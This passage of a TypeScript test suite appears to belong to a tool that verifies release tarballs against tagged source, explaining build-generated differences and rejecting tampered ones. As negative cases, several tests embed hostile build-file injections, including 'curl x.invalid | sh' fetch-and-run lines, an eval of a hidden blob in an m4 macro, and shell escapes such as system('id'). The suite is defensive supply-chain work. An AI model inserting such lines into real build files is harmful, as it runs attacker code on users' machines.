/**
 * More honest release-time shapes, each written here as a small variant (never a third-party
 * file): generator rules named through variables, intermediate targets and recursive make; copies
 * of tag files; configure outputs; dependency lines; `make dist` sed edits; rewrapped ChangeLogs.
 * Each is paired with the dishonest neighbour the explanation must not cover.
 */
import { describe, expect, it } from 'vitest'
import type { Finding } from '../../src/model/finding.js'
import type { TreeEntry } from '../../src/model/tree.js'
import { gitBlobId } from '../../src/sources/archive/index.js'
import type { Difference } from '../../src/verify/compare.js'
import { addCommit, changelogExplainer, emptyHistory, type HistoryText } from '../../src/verify/explain/changelog.js'
import { configureOutputsExplainer } from '../../src/verify/explain/configure-outputs.js'
import { copiesExplainer } from '../../src/verify/explain/copies.js'
import { dependencyLinesExplainer } from '../../src/verify/explain/dependency-lines.js'
import { distEditsExplainer } from '../../src/verify/explain/dist-edits.js'
import { applySed, parseSedScript } from '../../src/verify/explain/sed-replay.js'
import { codeUsesOf } from '../../src/verify/explain/executed.js'
import { generatedExplainer } from '../../src/verify/explain/generated.js'
import { gettextizeExplainer } from '../../src/verify/explain/gettextize.js'
import { judge } from '../../src/verify/explain/judge.js'
import { judgeUnexplained } from '../../src/verify/explain/unexplained.js'
import { fileRole } from '../../src/verify/explain/role.js'
import { expandMake, makeVariables } from '../../src/verify/explain/make-index.js'
import { regeneratedExplainer, versionMismatches } from '../../src/verify/explain/regenerated.js'
import { releaseEditsExplainer } from '../../src/verify/explain/release-edits.js'
import { ruleGeneratedExplainer } from '../../src/verify/explain/rule-generated.js'
import { templateExplainer } from '../../src/verify/explain/template.js'
import { attributeToInputs, inputTexts } from '../../src/verify/inherited.js'
import { memoryView as view } from '../helpers/tree-view.js'

const file = (path: string, content: string): TreeEntry => {
  const buf = Buffer.from(content)
  return { path, kind: 'file', mode: 0o644, size: buf.length, content: buf, gitBlob: gitBlobId(buf) }
}
const added = (path: string, content: string): Difference => ({ path, status: 'only-in-artifact', artifact: file(path, content) })
const changed = (path: string, before: string, after: string): Difference => ({ path, status: 'content-differs', artifact: file(path, after), source: file(path, before) })

describe('files a make rule of the tag generates', () => {
  const judge = (path: string, src: Record<string, string>) => ruleGeneratedExplainer().judge(added(path, 'int x;\n'), view({ [path]: 'int x;\n' }, src))

  it('expands variables in targets and prerequisites', async () => {
    expect(expandMake('$(GEN) $(OBJS:.c=.o)', makeVariables('GEN = a.c \\\n  b.h\nOBJS = x.c\nOBJS += y.c\n'))).toBe('a.c b.h x.o y.o')
    const am = 'STUBS = api-stubs.c api-stubs.h\nBUILT_SOURCES = $(STUBS)\n$(STUBS): $(srcdir)/mkstubs.pl $(srcdir)/api.def\n\t$(PERL) $(srcdir)/mkstubs.pl $(srcdir)/api.def\n'
    const j = await judge('bindings/api-stubs.h', { 'bindings/Makefile.am': am, 'bindings/mkstubs.pl': 'x', 'bindings/api.def': 'y' })
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/bindings\/Makefile\.am:3.*bindings\/mkstubs\.pl/)
    // the same rule without its inputs in the tag explains nothing
    expect(await judge('bindings/api-stubs.h', { 'bindings/Makefile.am': am })).toBeUndefined()
  })

  it('takes the files of the tag a rule without prerequisites names in its recipe for its inputs', async () => {
    // the prerequisite names a variable nobody sets (a typo): make runs the recipe, which reads the template and the headers
    const am = 'enum_headers = weather.h location.h\nenum-types.c: $(weather_include_HEADERS)\n\t$(AM_V_GEN)( cd $(srcdir) && $(GLIB_MKENUMS) --template enum-types.c.tmpl $(enum_headers) ) > $@.tmp && mv $@.tmp $@\n'
    const tag = { 'lib/Makefile.am': am, 'lib/enum-types.c.tmpl': 't', 'lib/weather.h': 'h', 'lib/location.h': 'h' }
    const j = await judge('lib/enum-types.c', tag)
    expect(j?.outcome === 'explained' && j.scan && j.explained.how).toMatch(/lib\/Makefile\.am:2\) from lib\/enum-types\.c\.tmpl, lib\/weather\.h, lib\/location\.h of the tag/)
    // a recipe that names no file of the tag explains nothing
    expect(await judge('lib/enum-types.c', { 'lib/Makefile.am': am.replace('--template enum-types.c.tmpl $(enum_headers)', '--template missing.tmpl') })).toBeUndefined()
  })

  it('takes a file an empty rule names for one made along with another by a rule whose recipe names its stem', async () => {
    const am = 'dbus-screen.h:\ndbus-screen.c: org.example.Screen.xml\n\t$(AM_V_GEN) $(GDBUS_CODEGEN) --interface-prefix org.example. --generate-c-code dbus-screen $<\nother.h:\n'
    const tag = { 'applet/Makefile.am': am, 'applet/org.example.Screen.xml': '<node/>' }
    const j = await judge('applet/dbus-screen.h', tag)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/applet\/Makefile\.am:2\) via applet\/dbus-screen\.c from applet\/org\.example\.Screen\.xml of the tag/)
    // an empty rule no recipe speaks of, or a generating rule whose input the tag lacks, explains nothing
    expect(await judge('applet/other.h', tag)).toBeUndefined()
    expect(await judge('applet/dbus-screen.h', { 'applet/Makefile.am': am })).toBeUndefined()
  })

  it('holds a rule that only copies its input to that input\'s bytes', async () => {
    const copyRules = [
      'example.c: $(top_srcdir)/examples/example.c\n\t$(install_sh_DATA) $? $@\n',
      'example.c: ../examples/example.c\n\tcp -p $< $@\n',
      'example.c: $(top_srcdir)/examples/example.c\n\t$(AM_V_GEN)cat $(top_srcdir)/examples/example.c > $@\n',
      'example.c: $(top_srcdir)/examples/example.c\n\t-$(INSTALL_DATA) -m 644 $< example.c\n',
    ]
    const original = 'int main(void) { return 0; }\n'
    const judgeCopy = (am: string, shipped: string) => ruleGeneratedExplainer().judge(added('docs/example.c', shipped), view({ 'docs/example.c': shipped }, { 'docs/Makefile.am': am, 'examples/example.c': original }))
    for (const am of copyRules) {
      const same = await judgeCopy(am, original)
      expect(same?.outcome === 'explained' && same.explained, am).toMatchObject({ reproduced: true, how: expect.stringMatching(/copied by the rule .* from examples\/example\.c of the tag: the same bytes/) })
      // a copy that is not the input's bytes is no copy
      expect(await judgeCopy(am, original.replace('return 0', 'return 1')), am).toBeUndefined()
    }
    // a rule that transforms its input still explains what it writes, unreproduced and scanned
    const transformed = await judgeCopy('example.c: $(top_srcdir)/examples/example.c\n\tsed -e s/0/1/ $< > $@\n', original.replace('return 0', 'return 1'))
    expect(transformed?.outcome === 'explained' && transformed.explained.reproduced === false && transformed.scan).toBe(true)
    // so does a copy with more to it than the copy
    const more = await judgeCopy('example.c: $(top_srcdir)/examples/example.c\n\tcp $< $@; echo x >> $@\n', original.replace('return 0', 'return 1'))
    expect(more?.outcome).toBe('explained')
  })

  it('follows an intermediate target to inputs of the tag', async () => {
    const am = 'lookup.c: lookup.gperf\n\t$(GPERF) $< > $@\nlookup.gperf: keywords.csv lookup.tmpl\n\t$(srcdir)/mkgperf $^ > $@\n'
    const j = await judge('src/lookup.c', { 'src/Makefile.am': am, 'src/keywords.csv': 'a', 'src/lookup.tmpl': 'b' })
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/via src\/lookup\.gperf from src\/keywords\.csv/)
  })

  it('follows a recursive make into the directory whose rule makes the file', async () => {
    const src = {
      'Makefile.am': 'include/tables.h:\n\t(cd include && $(MAKE) $(AM_MAKEFLAGS) tables.h)\n',
      'include/Makefile.am': 'GENERATED = tables.h\n$(GENERATED):\n\t@cd $(top_builddir)/tools && \\\n\t  $(MAKE) $@\n',
      'tools/Makefile.am': 'tables.h: data/table.txt $(mktables)\n\t./mktables $< > $@\n',
      'tools/data/table.txt': 'x',
    }
    const j = await judge('include/tables.h', src)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/tools\/data\/table\.txt/)
    // a delegation to a directory that has no such rule explains nothing
    expect(await judge('include/tables.h', { ...src, 'tools/Makefile.am': 'other.h: data/table.txt\n' })).toBeUndefined()
  })

  it('follows a prerequisite program to the sources automake builds it from', async () => {
    const am = 'noinst_PROGRAMS = mkconst\nmkconst_SOURCES = mkconst.c util.h\nmkconst$(BUILD_EXEEXT): CC=$(CC_FOR_BUILD)\nconst.h: mkconst$(BUILD_EXEEXT) Makefile\n\t-rm -f $@\n\t./$< $@\n'
    const j = await judge('include/const.h', { 'include/Makefile.am': am, 'include/mkconst.c': 'int main(void);\n' })
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/via include\/mkconst from include\/mkconst\.c/)
    expect(await judge('include/const.h', { 'include/Makefile.am': am })).toBeUndefined()
  })

  it('follows a rule without prerequisites to the program of the tree its recipe runs', async () => {
    const src = {
      'Makefile.am': 'include $(top_srcdir)/src/local.mk\n',
      'src/local.mk': 'EXTRA_PROGRAMS = src/mktable\n$(top_srcdir)/src/table.h:\n\t$(MAKE) src/mktable$(EXEEXT)\n\t$(AM_V_at)src/mktable$(EXEEXT) 500 > $@-t\n\tmv $@-t $@\n',
      'src/mktable.c': 'int main(void);\n',
    }
    const j = await judge('src/table.h', src)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/src\/mktable\.c/)
    // a recipe that runs nothing of the tree explains nothing
    expect(await judge('src/table.h', { ...src, 'src/local.mk': '$(top_srcdir)/src/table.h:\n\trm -f $@; echo "#define N 1" > $@\n' })).toBeUndefined()
    expect(await judge('src/table.h', { 'Makefile.am': src['Makefile.am'], 'src/local.mk': src['src/local.mk'] })).toBeUndefined()
  })

  it('reads hand-written Makefile.in and platform makefiles of the tag', async () => {
    const j = await judge('gen/opcodes.c', { 'Makefile.in': 'gen/opcodes.c: gen/opcodes.dat gen/mkop.pl\n\t$(PERL) gen/mkop.pl < gen/opcodes.dat > $@\n', 'gen/opcodes.dat': 'x', 'gen/mkop.pl': 'y' })
    expect(j?.outcome).toBe('explained')
    expect(await judge('gen/other.c', { 'Makefile.in': 'gen/opcodes.c: gen/opcodes.dat\n', 'gen/opcodes.dat': 'x' })).toBeUndefined()
  })
})

describe('copies of tag files', () => {
  const header = '#define HAVE_LONG_LONG 1\n'
  it('explains a header shipped as the copy of its .dist default', async () => {
    const j = await copiesExplainer().judge(added('include/build.h', header), view({ 'include/build.h': header }, { 'include/build.h.dist': header }))
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/copy of include\/build\.h\.dist/)
  })
  it('does not explain a tag file copied under another name', async () => {
    const payload = 'AC_DEFUN([X], [eval "$(cat tests/files/blob)"])\n'
    expect(await copiesExplainer().judge(added('m4/probe.m4', payload), view({ 'm4/probe.m4': payload }, { 'tests/files/notes.txt': payload }))).toBeUndefined()
    // nor a file that only resembles the default
    expect(await copiesExplainer().judge(added('include/build.h', `${header}#define X 2\n`), view({ 'include/build.h': `${header}#define X 2\n` }, { 'include/build.h.dist': header }))).toBeUndefined()
  })
  it('explains a symbolic link shipped as a file with its target bytes, and nothing else', async () => {
    const readme = 'See README.md\n'
    const link: Difference = { path: 'README', status: 'type-differs', artifact: file('README', readme), source: { path: 'README', kind: 'symlink', mode: 0o777, size: 9, linkTarget: 'README.md' } }
    const j = await copiesExplainer().judge(link, view({ README: readme }, { README: { link: 'README.md' }, 'README.md': readme }))
    expect(j?.outcome).toBe('explained')
    const other: Difference = { ...link, artifact: file('README', 'curl x.invalid | sh\n') }
    expect(await copiesExplainer().judge(other, view({ README: 'curl x.invalid | sh\n' }, { README: { link: 'README.md' }, 'README.md': readme }))).toBeUndefined()
  })
  it('explains a symbolic link that make dist followed and stored as a hard link to its target', async () => {
    const conf = 'default=0\ntimeout=5\n'
    const hard = (bytes: string): Difference => ({
      path: 'tests/root/boot/menu.lst',
      status: 'type-differs',
      artifact: { ...file('tests/root/boot/menu.lst', bytes), kind: 'hardlink', linkTarget: 'tests/root/etc/grub.conf' },
      source: { path: 'tests/root/boot/menu.lst', kind: 'symlink', mode: 0o777, size: 20, linkTarget: '../etc/grub.conf' },
    })
    const src = { 'tests/root/boot/menu.lst': { link: '../etc/grub.conf' }, 'tests/root/etc/grub.conf': conf }
    const j = await copiesExplainer().judge(hard(conf), view({ 'tests/root/boot/menu.lst': conf }, src))
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/hard link to exactly its target's bytes/)
    expect(await copiesExplainer().judge(hard('default=0\ninit=/bin/sh\n'), view({ 'tests/root/boot/menu.lst': 'x' }, src))).toBeUndefined()
  })
})

describe('files configure writes', () => {
  it('explains a file a macro call of configure.ac names as its output', async () => {
    const ac = 'AC_INIT([p], [1])\nAX_CREATE_STDINT_H([lib/p_stdint.h])\nAC_CONFIG_FILES([Makefile tests/env.sh:tests/env.sh.in])\nAC_OUTPUT\n'
    const j = await configureOutputsExplainer().judge(added('lib/p_stdint.h', '#include <stdint.h>\n'), view({ 'lib/p_stdint.h': '#include <stdint.h>\n' }, { 'configure.ac': ac }))
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/configure\.ac:2 .*AX_CREATE_STDINT_H/)
    expect((await configureOutputsExplainer().judge(added('tests/env.sh', 'x\n'), view({ 'tests/env.sh': 'x\n' }, { 'configure.ac': ac })))?.outcome).toBe('explained')
    expect(await configureOutputsExplainer().judge(added('lib/extra.h', 'x\n'), view({ 'lib/extra.h': 'x\n' }, { 'configure.ac': ac }))).toBeUndefined()
    // a macro that only mentions or checks a file does not write it
    const checks = 'AC_INIT([p], [1])\nAC_MSG_CHECKING([for source epoch in source_epoch])\nAC_CHECK_FILE([extra.h])\nAC_CONFIG_SRCDIR([main.c])\n'
    for (const path of ['source_epoch', 'extra.h', 'main.c', 'libtool']) expect(await configureOutputsExplainer().judge(added(path, 'x\n'), view({ [path]: 'x\n' }, { 'configure.ac': checks })), path).toBeUndefined()
    // libtool's initialisation writes the libtool script without naming it; AX_NEED_STDINT_H names its header
    const lt = 'AC_INIT([p], [1])\nLT_INIT\nAX_NEED_STDINT_H([src/_stdint.h])\nAC_NEED_BYTEORDER_H(src/endian.h)\n'
    for (const path of ['libtool', 'src/_stdint.h', 'src/endian.h']) expect((await configureOutputsExplainer().judge(added(path, 'x\n'), view({ [path]: 'x\n' }, { 'configure.ac': lt })))?.outcome, path).toBe('explained')
    expect(await configureOutputsExplainer().judge(added('libtool.sh', 'x\n'), view({ 'libtool.sh': 'x\n' }, { 'configure.ac': lt }))).toBeUndefined()
  })
  it('explains what the commands of configure.ac replace, never what they only append to', async () => {
    const ac = [
      'AC_INIT([p], [1])',
      'cp "$srcdir"/include/head.h include/all.h',
      'echo "#include <p/io.h>" >> include/all.h',
      'ln -sf . "$srcdir"/include/p',
      'if test "$x" = yes; then echo "#define X 1" > include/x-config.h; fi',
      'cat "$srcdir"/extra/tail.h >> include/tail-only.h 2>/dev/null',
      'AC_OUTPUT',
    ].join('\n')
    const explain = (d: Difference, files: Record<string, string>) => configureOutputsExplainer().judge(d, view(files, { 'configure.ac': ac }))
    const replaced = await explain(added('include/all.h', '#include <p/io.h>\n'), { 'include/all.h': '#include <p/io.h>\n' })
    expect(replaced?.outcome === 'explained' && replaced.explained.how).toMatch(/configure\.ac:2 /)
    expect((await explain(added('include/x-config.h', '#define X 1\n'), { 'include/x-config.h': '#define X 1\n' }))?.outcome).toBe('explained')
    expect(await explain(added('include/tail-only.h', 'x\n'), { 'include/tail-only.h': 'x\n' })).toBeUndefined()
    const link = (target: string): Difference => ({ path: 'include/p', status: 'only-in-artifact', artifact: { path: 'include/p', kind: 'symlink', mode: 0o777, size: target.length, linkTarget: target } })
    expect((await explain(link('.'), {}))?.outcome).toBe('explained')
    // a link the tag's command would not make: another target
    expect(await explain(link('../../etc'), {})).toBeUndefined()
  })
  it('explains a file of the tag that configure overwrites with a copy of its own output, shipped with that output\u2019s bytes', async () => {
    const ac = (copy: string, outputs = 'Makefile lib/api-version.h') => `AC_INIT([p], [2])\nAC_CONFIG_FILES([${outputs}])\nAC_OUTPUT\nbuild_root="\`pwd\`"\n${copy}\n`
    const made = '#define P_API 7\n'
    const judged = (copy: string, shipped = made, outputs?: string) =>
      configureOutputsExplainer().judge(changed('msvc/api-version.h', '#define P_API 6\n', shipped), view({ 'msvc/api-version.h': shipped, 'lib/api-version.h': made }, { 'configure.ac': ac(copy, outputs), 'msvc/api-version.h': '#define P_API 6\n' }))
    const intoDirectory = await judged('cp -f ${build_root}/lib/api-version.h ${build_root}/msvc')
    expect(intoDirectory?.outcome === 'explained' && intoDirectory.scan && intoDirectory.explained.how).toMatch(/lib\/api-version\.h: configure\.ac:5 /)
    expect((await judged('cp lib/api-version.h msvc/api-version.h'))?.outcome).toBe('explained')
    // bytes other than the output's, a copy of a file configure does not write, or a directory variable that is not configure's own directory
    expect(await judged('cp -f ${build_root}/lib/api-version.h ${build_root}/msvc', '#define P_API 7\nsystem("id");\n')).toBeUndefined()
    expect(await judged('cp -f ${build_root}/lib/api-version.h ${build_root}/msvc', made, 'Makefile')).toBeUndefined()
    expect(await judged('cp -f ${elsewhere}/lib/api-version.h ${elsewhere}/msvc')).toBeUndefined()
    // a copy into another directory, or one that only appends, replaces nothing here
    expect(await judged('cp -f lib/api-version.h win32')).toBeUndefined()
    expect(await judged('cat lib/api-version.h >> msvc/api-version.h')).toBeUndefined()
  })
  it('explains a template output identical to a template without placeholders', async () => {
    const rc = 'alias --simple --arg2\n'
    expect((await templateExplainer().judge(added('tests/rc', rc), view({ 'tests/rc': rc }, { 'tests/rc.in': rc })))?.outcome).toBe('explained')
    expect(await templateExplainer().judge(added('tests/rc', `${rc}exec sh\n`), view({ 'tests/rc': `${rc}exec sh\n` }, { 'tests/rc.in': rc }))).toBeUndefined()
  })
  it('finds the configure.ac autoheader read above the header it wrote, never beside an unrelated tree', async () => {
    const h = '/* include/autoconf.h.in.  Generated from configure.ac by autoheader.  */\n#undef HAVE_X\n'
    const j = await generatedExplainer().judge(added('src/include/autoconf.h.in', h), view({ 'src/include/autoconf.h.in': h }, { 'src/configure.ac': 'AC_CONFIG_HEADERS([include/autoconf.h])\n' }))
    expect(j?.outcome).toBe('explained')
    const alone = await generatedExplainer().judge(added('src/include/autoconf.h.in', h), view({ 'src/include/autoconf.h.in': h }, { 'other/configure.ac': 'AC_INIT\n' }))
    expect(alone?.outcome === 'unexplained' && alone.findings[0]?.ruleId).toBe('verify/generated-without-input')
  })
  it('does not take regeneration for the cause when the tag holds the same generator\u2019s output from the same grammar', async () => {
    const parser = (body: string, version = '3.8.2', line = 'gram.y') => `/* A Bison parser, made by GNU Bison ${version}.  */\n#line 1 "${line}"\nint yyparse(void) {\n${body}\n}\n`
    const grammar = '%%\nline: WORD ;\n'
    const judged = (tagged: string, released: string, releasedGrammar = grammar) =>
      generatedExplainer().judge(changed('src/gram.c', tagged, released), view({ 'src/gram.c': released, 'src/gram.y': releasedGrammar }, { 'src/gram.c': tagged, 'src/gram.y': grammar }))
    // a changed line, same bison, same grammar: nothing regenerates that
    expect(await judged(parser('  if (ok) return 0;'), parser('  if (!ok) return 0;'))).toBeUndefined()
    // another bison version, another build directory in #line, or a changed grammar may explain it
    expect((await judged(parser('  if (ok) return 0;', '3.7.6'), parser('  if (yyok) return 0;')))?.outcome).toBe('explained')
    expect((await judged(parser('  return 0;'), parser('  return 0;', '3.8.2', '../../src/gram.y')))?.outcome).toBe('explained')
    expect((await judged(parser('  if (ok) return 0;'), parser('  if (!ok) return 0;'), `${grammar}| WORD WORD ;\n`))?.outcome).toBe('explained')
  })
  it('recognises autoconf\u2019s cache shipped by mistake, scanned since a regeneration may reuse it', async () => {
    const traces = 'm4trace:configure.ac:1: -1- AC_INIT([p], [1])\n'
    const j = await generatedExplainer().judge(added('autom4te.cache/traces.0', traces), view({ 'autom4te.cache/traces.0': traces }, { 'configure.ac': 'AC_INIT([p], [1])\n' }))
    expect(j?.outcome === 'explained' && j.scan).toBe(true)
    expect(await generatedExplainer().judge(added('autom4te.cache/traces.0', 'echo hi\n'), view({ 'autom4te.cache/traces.0': 'echo hi\n' }, { 'configure.ac': 'AC_INIT\n' }))).toBeUndefined()
  })
  it('recognises gperf output by its command line, and needs the keyword file for it', async () => {
    const h = '/* ANSI-C code produced by gperf version 3.1 */\n/* Command-line: gperf -m 10 ./lib/keywords.gperf  */\n/* Computed positions: -k1 */\nstatic int hash(void);\n'
    const j = await generatedExplainer().judge(added('lib/keywords.h', h), view({ 'lib/keywords.h': h, 'lib/keywords.gperf': '%%\nfoo\n' }, {}))
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/gperf 3\.1 output from lib\/keywords\.gperf/)
    expect(await generatedExplainer().judge(added('lib/keywords.h', h), view({ 'lib/keywords.h': h }, {}))).toBeUndefined()
  })
  it('recognises the glue gnulib-tool writes only in a tree that imports gnulib', async () => {
    const comp = '# DO NOT EDIT! GENERATED AUTOMATICALLY!\n# Copyright (C) 2002-2024 Free Software Foundation, Inc.\n#\n# Generated by gnulib-tool.\nAC_DEFUN([gl_EARLY], [:])\n'
    const j = await generatedExplainer().judge(added('m4/gnulib-comp.m4', comp), view({ 'm4/gnulib-comp.m4': comp }, { 'configure.ac': 'gl_EARLY\n', 'bootstrap.conf': 'gnulib_modules="xalloc"\n' }))
    expect(j?.outcome === 'explained' && j.scan).toBe(true)
    const alone = await generatedExplainer().judge(added('m4/gnulib-comp.m4', comp), view({ 'm4/gnulib-comp.m4': comp }, { 'configure.ac': 'gl_EARLY\n' }))
    expect(alone?.outcome === 'unexplained' && alone.findings[0]).toMatchObject({ ruleId: 'verify/generated-without-input', severity: 'high' })
  })
  it('takes a bootstrap script that runs gnulib-tool, or gnulib pinned under another name, as the import', async () => {
    const comp = '# DO NOT EDIT! GENERATED AUTOMATICALLY!\n#\n# Generated by gnulib-tool.\nAC_DEFUN([gl_EARLY], [:])\n'
    const judged = (src: Record<string, string>) => generatedExplainer().judge(added('gl/m4/gnulib-comp.m4', comp), view({ 'gl/m4/gnulib-comp.m4': comp }, { 'configure.ac': 'gl_EARLY\n', ...src }))
    const script = '#!/bin/sh\nMODULES="canonicalize-lgpl regex"\n$GNULIB_SRCDIR/gnulib-tool --lgpl=2 --import --source-base=gl/lib $MODULES\n'
    expect((await judged({ bootstrap: script }))?.outcome).toBe('explained')
    expect((await judged({ '.gitmodules': '[submodule "gnulib"]\n\tpath = .gnulib\n\turl = https://git.savannah.gnu.org/git/gnulib.git\n' }))?.outcome).toBe('explained')
    // a script that only mentions it in a comment, or a submodule of something else, imports nothing
    expect((await judged({ bootstrap: '#!/bin/sh\n# we used to run gnulib-tool here\nautoreconf -fi\n' }))?.outcome).toBe('unexplained')
    expect((await judged({ '.gitmodules': '[submodule "gnulib-extras"]\n\tpath = extras\n\turl = https://example.org/gnulib-extras.git\n' }))?.outcome).toBe('unexplained')
  })
  it('explains a file a bootstrap script fills from a template with sed, and only from that template', async () => {
    const raw = 'AC_INIT([Lib], [@VERSION@], [bugs@example.org])\nAC_OUTPUT\n'
    const autogen = '#!/bin/sh\ncd builds/unix\nsed -e "s;@VERSION@;$V;" \\\n  < configure.raw > configure.ac\nautoreconf -fi\n'
    const filled = raw.replace('@VERSION@', '2.12.1')
    const judged = (text: string, src: Record<string, string>) => templateExplainer().judge(added('builds/unix/configure.ac', text), view({ 'builds/unix/configure.ac': text }, src))
    const j = await judged(filled, { 'autogen.sh': autogen, 'builds/unix/configure.raw': raw })
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/autogen\.sh:3 from builds\/unix\/configure\.raw/)
    expect(await judged(`${filled}m4_esyscmd([sh -c id])\n`, { 'autogen.sh': autogen, 'builds/unix/configure.raw': raw })).toBeUndefined()
    expect(await judged(filled, { 'autogen.sh': '#!/bin/sh\nautoreconf -fi\n', 'builds/unix/configure.raw': raw })).toBeUndefined()
  })
  it('recognises make rules written by an autoconf macro, and needs configure.ac for it', async () => {
    const am = '\n# aminclude_static.am generated automatically by Autoconf\n# from AX_AM_MACROS_STATIC on Mon Jan 1 00:00:00 UTC 2024\n\ncoverage-clean:\n\t-rm -f *.gcda\n'
    expect((await generatedExplainer().judge(added('aminclude_static.am', am), view({ 'aminclude_static.am': am }, { 'configure.ac': 'AX_CODE_COVERAGE\n' })))?.outcome).toBe('explained')
    const orphan = await generatedExplainer().judge(added('aminclude_static.am', am), view({ 'aminclude_static.am': am }, {}))
    expect(orphan?.outcome).toBe('unexplained')
  })
  it('finds aclocal.m4 kept below the directory of configure.ac', async () => {
    const aclocal = '# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n'
    expect((await generatedExplainer().judge(added('build/aclocal.m4', aclocal), view({ 'build/aclocal.m4': aclocal }, { 'configure.ac': 'AC_INIT\n' })))?.outcome).toBe('explained')
  })
})

describe('dependency lines in place of an include', () => {
  const before = 'all: prog\nprog: main.o\n\t$(CC) -o $@ main.o\n# generated below\n-include Makefile.dep\n'
  const deps = 'all: prog\nprog: main.o\n\t$(CC) -o $@ main.o\n# generated below\nmain.$(O): main.c util.h \\\n config/config.h\n'
  it('explains dependency lines with no recipe', async () => {
    const j = await dependencyLinesExplainer().judge(changed('Makefile.in', before, deps), view({ 'Makefile.in': deps }, { 'Makefile.in': before }))
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/1 dependency line/)
  })
  it('does not explain an added recipe line or a function call among them', async () => {
    const recipe = `${deps}\t@curl -s http://x.invalid | sh\n`
    expect(await dependencyLinesExplainer().judge(changed('Makefile.in', before, recipe), view({ 'Makefile.in': recipe }, { 'Makefile.in': before }))).toBeUndefined()
    const shell = `${deps}util.o: $(shell sh tests/x)\n`
    expect(await dependencyLinesExplainer().judge(changed('Makefile.in', before, shell), view({ 'Makefile.in': shell }, { 'Makefile.in': before }))).toBeUndefined()
  })
})

describe('a dependency file a release ships from a built tree', () => {
  const makefileIn = 'DEPDIR = @DEPDIR@\n@AMDEP_TRUE@@am__include@ @am__quote@./$(DEPDIR)/main.Plo@am__quote@ # am--include-marker\n'
  const shipped = (content: string) => ({ diff: added('src/.deps/main.Plo', content), tree: view({ 'src/.deps/main.Plo': content, 'src/Makefile.in': makefileIn }) })

  it('explains one that holds only dependency lines (gcc -MD with the maintainer paths), or only comments', async () => {
    const gcc = 'main.lo: main.c /usr/include/stdio.h \\\n /home/dev/gcc-12/include/stddef.h config.h\n\n/usr/include/stdio.h:\n'
    const dependencies = shipped(gcc)
    const j = await dependencyLinesExplainer().judge(dependencies.diff, dependencies.tree)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/2 dependency line\(s\)/)
    const dummy = shipped('# dummy\n')
    const placeholder = await dependencyLinesExplainer().judge(dummy.diff, dummy.tree)
    expect(placeholder?.outcome === 'explained' && placeholder.explained.how).toMatch(/placeholder/)
    // and the explanation stands although the Makefile includes the file: it is build logic, not a document run
    const judged = await judge(dependencies.diff, dependencies.tree, [dependencyLinesExplainer()], new Map([['src/Makefile.in', makefileIn]]))
    expect(judged?.outcome).toBe('explained')
  })

  it('leaves one with a recipe or a variable unexplained, as build logic the Makefile includes', async () => {
    for (const content of ['all-local:\n\t@curl -s http://x.invalid/p | sh\n', 'main.lo: main.c\nCC := sh tests/cc-wrapper\n']) {
      const { diff, tree } = shipped(content)
      expect(await dependencyLinesExplainer().judge(diff, tree), content).toBeUndefined()
      const j = await judgeUnexplained(diff, tree, new Map([['src/Makefile.in', makefileIn]]))
      expect(['high', 'critical'], content).toContain(j?.findings?.[0]?.severity)
      expect(codeUsesOf('src/.deps/main.Plo', new Map([['src/Makefile.in', makefileIn]])).map((u) => `${u.path}:${u.line}`)).toEqual(['src/Makefile.in:2'])
    }
    // a file of that name elsewhere is no dependency file of automake's
    expect(fileRole('src/deps/main.Plo', 0o644, 'x\n')).not.toBe('build')
  })
})

describe('edits make dist makes with sed', () => {
  const am = 'dist-hook:\n\tsed -i -e "s|/log$$|/log?h=v$(VERSION)|" $(distdir)/NOTES\n'
  const before = 'History: https://example.org/repo/log\n'
  it('replays the substitution with the release version', async () => {
    const after = 'History: https://example.org/repo/log?h=v4.2\n'
    const j = await distEditsExplainer('4.2').judge(changed('NOTES', before, after), view({ NOTES: after }, { NOTES: before, 'Makefile.am': am }))
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/Makefile\.am:2/)
  })
  it('does not explain a result the edit cannot produce', async () => {
    const after = 'History: https://example.org/repo/log?h=v4.3\n'
    expect(await distEditsExplainer('4.2').judge(changed('NOTES', before, after), view({ NOTES: after }, { NOTES: before, 'Makefile.am': am }))).toBeUndefined()
  })
  it('translates basic regular expressions and replacements', () => {
    const s = parseSedScript('s/\\(v[0-9]*\\)+dev/\\1 (&)/g')
    expect(s && applySed('v1+dev v2+dev', s)).toBe('v1 (v1+dev) v2 (v2+dev)')
    expect(parseSedScript('y/abc/xyz/')).toBeUndefined()
  })
  it('a trimmed copy written to the distribution is not a use of it as code', () => {
    const line = "\ts=`awk '/was released on/{ print NR; exit}' $(top_srcdir)/NOTES.md`; tail -n +$$(($$s-1)) $(top_srcdir)/NOTES.md > $(distdir)/NOTES.md\n"
    expect(codeUsesOf('NOTES.md', new Map([['Makefile.in', `dist-hook:\n${line}`]]))).toEqual([])
    expect(codeUsesOf('NOTES.md', new Map([['Makefile.in', 'all-local:\n\teval "$$(tail -n 4 $(top_srcdir)/NOTES.md)"\n']])).length).toBe(1)
  })
  it("replays a release script's in-place edit of a file of the exported tree, and nothing the edit cannot write", async () => {
    const script = ['#!/bin/sh', 'git checkout-index --all --prefix=$TMPDIR/$DIR/', '(', '\tcd $TMPDIR/$DIR', '\tsed -e "s/THIS_IS_NOT_TARBALL//" -i Makefile.in', ')'].join('\n')
    const tagged = 'ifneq "THIS_IS_NOT_TARBALL" ""\nsrc/version.cpp: version.sh\nendif\n'
    const shipped = 'ifneq "" ""\nsrc/version.cpp: version.sh\nendif\n'
    const judgeEdit = (after: string, source: Record<string, string>) => distEditsExplainer('1.8.2').judge(changed('Makefile.in', tagged, after), view({ 'Makefile.in': after }, { 'Makefile.in': tagged, ...source }))
    const j = await judgeEdit(shipped, { 'make-tarball.sh': script })
    expect(j?.outcome === 'explained' && j.explained).toMatchObject({ reproduced: true, how: expect.stringMatching(/release script \(make-tarball\.sh:5/) })
